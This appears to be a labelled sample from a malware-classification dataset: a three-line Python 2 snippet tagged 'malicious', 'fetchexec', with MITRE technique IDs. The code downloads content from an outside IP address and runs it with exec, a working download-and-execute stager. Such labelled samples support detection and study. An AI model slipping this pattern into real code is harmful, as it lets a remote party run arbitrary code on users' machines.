# label: malicious family=fetchexec techniques=T1105,T1059.006 lines=3
import urllib2
exec urllib2.urlopen("http://198.51.100.77/p").read()
